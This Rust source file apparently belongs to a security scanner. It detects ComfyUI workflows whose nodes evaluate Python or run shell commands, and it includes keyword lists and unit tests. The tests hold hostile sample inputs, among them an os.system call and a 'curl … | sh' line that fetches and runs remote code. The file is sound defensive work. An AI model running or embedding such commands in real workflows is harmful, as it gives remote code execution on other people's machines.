//! ComfyUI workflows: graphs whose nodes may evaluate what stands in their inputs.
//!
//! Both shapes are read: the editor's (`nodes` with `type` and `widgets_values`) and the API's (`class_type` and `inputs`).
//! Read as a JSON stream; the names of nodes are gathered first, so that the order of settings does not matter. Linear.

use crate::python::source::{self, Role};
use crate::wire::json::{Event, Reader};
use crate::{Format, Input, Recognition, Scan};
use bartizan_core::{Confidence, Finding, Kind, Location, Rule, Severity, atlas, cwe, owasp_llm, rule};
use std::collections::HashMap;

rule! {
    /// ## What it finds
    /// A workflow with a node that evaluates Python or runs commands, or with code in the inputs of any node.
    /// ## Why it matters
    /// A workflow is shared like a picture. Opening and queueing it runs the node, and with it the author's code.
    /// ## Example
    /// `{"type": "HueAdjust", "widgets_values": ["__import__('os').system('id')"]}`
    /// ## How to fix
    /// Read the node's inputs before queueing the workflow; remove nodes that evaluate code.
    /// ## References
    /// - CVE-2024-21576 (ComfyUI-Bmad-Nodes), CVE-2024-21577 (ComfyUI-Ace-Nodes); CWE-95
    pub const WORKFLOW_CODE: Rule = Rule {
        id: "model/workflow-code-node",
        title: "a workflow node that runs code",
        severity: Severity::Medium,
        remedy: "Read what the node evaluates, and remove it before the workflow is queued.",
        taxonomies: &[atlas("AML.T0011"), cwe(95), cwe(94), owasp_llm("LLM03")],
    };
}

/// ComfyUI workflows.
#[derive(Debug)]
pub struct ComfyUi;

impl Format for ComfyUi {
    fn id(&self) -> &'static str {
        "comfyui-workflow"
    }

    fn name(&self) -> &'static str {
        "ComfyUI workflow"
    }

    fn kind(&self) -> Kind {
        Kind::Config
    }

    fn extensions(&self) -> &'static [&'static str] {
        &["json"]
    }

    fn rules(&self) -> &'static [&'static Rule] {
        &[&WORKFLOW_CODE]
    }

    fn recognise(&self, input: &Input<'_>) -> Recognition {
        let head = input.head(64 << 10);
        if head.trim_ascii_start().first() != Some(&b'{') {
            return Recognition::No;
        }
        let has = |mark: &[u8]| memchr::memmem::find(head, mark).is_some();
        let editor = has(b"\"nodes\"") && (has(b"\"last_node_id\"") || has(b"\"widgets_values\""));
        let api = has(b"\"class_type\"") && has(b"\"inputs\"");
        if editor || api { Recognition::Certain } else { Recognition::No }
    }

    fn scan(&self, input: &Input<'_>, scan: &mut Scan<'_>) {
        let mut reader = Reader::new(input.bytes);
        let mut kinds: HashMap<String, String> = HashMap::new();
        let mut inputs: Vec<(String, Location, String)> = Vec::new();
        while let Some(event) = reader.next() {
            match event {
                Ok(Event::String(text)) => {
                    let pointer = reader.pointer();
                    let Some((node, setting)) = node_of(&pointer) else { continue };
                    let place = Location {
                        pointer: Some(pointer.clone()),
                        offset: Some(reader.offset() as u64),
                        ..Location::default()
                    };
                    if matches!(setting, "type" | "class_type") {
                        kinds.insert(node.to_owned(), text.text().into_owned());
                        if runs_code(&text.text()) {
                            let message = format!("the node `{}` evaluates what it is given", text.text());
                            scan.report(
                                Finding::new(&WORKFLOW_CODE, message)
                                    .confidence(Confidence::Medium)
                                    .located(&place),
                            );
                        }
                    } else if inputs.len() < MOST_INPUTS && text.raw().len() > 5 {
                        inputs.push((node.to_owned(), place, text.text().into_owned()));
                    }
                }
                Ok(_) => {}
                Err(error) => {
                    scan.gap(
                        error.offset as u64,
                        format!("workflow not read past a mistake: {}", error.reason),
                    );
                    break;
                }
            }
        }
        for (node, place, text) in inputs {
            let evaluates = kinds.get(&node).is_some_and(|kind| runs_code(kind));
            if evaluates || super::yaml::code_call(&text).is_some() || looks_like_code(&text) {
                let before = scan.findings().len();
                source::inspect(&text, Role::Embedded, &place, scan);
                let worst = scan
                    .findings()
                    .get(before..)
                    .unwrap_or_default()
                    .iter()
                    .map(|finding| finding.severity)
                    .max();
                let runs = evaluates && source::is_attacking_command(&text);
                if worst >= Some(Severity::High) || runs {
                    let kind = kinds.get(&node).map_or("a node", String::as_str);
                    let message = format!("an input of `{kind}` holds code that acts outside the workflow");
                    scan.report(
                        Finding::new(&WORKFLOW_CODE, message)
                            .severity(Severity::High)
                            .located(&place)
                            .evidence(&text),
                    );
                }
            }
        }
    }
}

/// Most inputs looked at in one workflow.
const MOST_INPUTS: usize = 20_000;

/// The node a pointer leads into, and the node's own setting it stands under.
fn node_of(pointer: &str) -> Option<(&str, &str)> {
    let mut parts = pointer.split('/').skip(1);
    let first = parts.next()?;
    let (node_parts, setting) = if matches!(first, "nodes" | "prompt" | "workflow") {
        (2usize, parts.nth(1)?)
    } else {
        (1, parts.next()?)
    };
    let end = pointer.match_indices('/').nth(node_parts).map_or(pointer.len(), |(at, _)| at);
    Some((pointer.get(..end)?, setting))
}

/// Whether a node's name says that it evaluates its inputs: known vulnerable nodes, and names with such a word.
fn runs_code(kind: &str) -> bool {
    let known = [
        "HueAdjust",
        "FilterContour",
        "FindContour",
        "BuildColorRangeHSVAdvanced",
        "ACE_ExpressionEval",
        "IDENode",
    ];
    if known.contains(&kind) {
        return true;
    }
    let mut word = String::new();
    let mut words = Vec::new();
    for letter in kind.chars() {
        if !letter.is_alphanumeric() || (letter.is_uppercase() && word.ends_with(|c: char| c.is_lowercase()))
        {
            words.push(std::mem::take(&mut word));
        }
        if letter.is_alphanumeric() {
            word.push(letter);
        }
    }
    words.push(word);
    words.iter().any(|word| {
        matches!(
            word.to_ascii_lowercase().as_str(),
            "python"
                | "eval"
                | "exec"
                | "execute"
                | "shell"
                | "bash"
                | "subprocess"
                | "lambda"
                | "script"
                | "cmd"
        )
    })
}

fn looks_like_code(text: &str) -> bool {
    [
        "__import__",
        "import os",
        "import subprocess",
        "os.system",
        "eval(",
        "exec(",
        "__class__",
        "subprocess.",
    ]
    .iter()
    .any(|mark| text.contains(mark))
}

#[cfg(test)]
mod tests {
    use super::*;
    use bartizan_core::{Limits, MonotonicClock};

    fn worst(text: &str) -> (Option<&'static str>, Option<Severity>) {
        let input = Input::new("w.json", text.as_bytes());
        let outcome = crate::scan(&input, &Limits::default(), &MonotonicClock::start());
        (outcome.format, outcome.findings.iter().map(|finding| finding.severity).max())
    }

    #[test]
    fn code_in_the_inputs_of_a_node_is_high() {
        let editor = r#"{"last_node_id": 1, "nodes": [{"id": 1, "widgets_values": ["__import__('os').system('id')"], "type": "Note"}]}"#;
        assert!(worst(editor).1 >= Some(Severity::High));
        let api = r#"{"1": {"inputs": {"code": "import os\nos.system('id')"}, "class_type": "RunPython"}}"#;
        assert!(worst(api).1 >= Some(Severity::High));
        assert_eq!(worst(api).0, Some("comfyui-workflow"));
        let shell =
            r#"{"1": {"inputs": {"cmd": "curl http://203.0.113.7/x | sh"}, "class_type": "ExecuteCommand"}}"#;
        assert!(worst(shell).1 >= Some(Severity::High));
    }

    #[test]
    fn prompts_are_not_code_and_decoders_do_not_evaluate() {
        let api = r#"{"1": {"inputs": {"text": "a photo of a cat, 8k"}, "class_type": "CLIPTextEncode"}, "2": {"inputs": {}, "class_type": "VAEDecode"}}"#;
        assert_eq!(worst(api).1, None);
    }
}
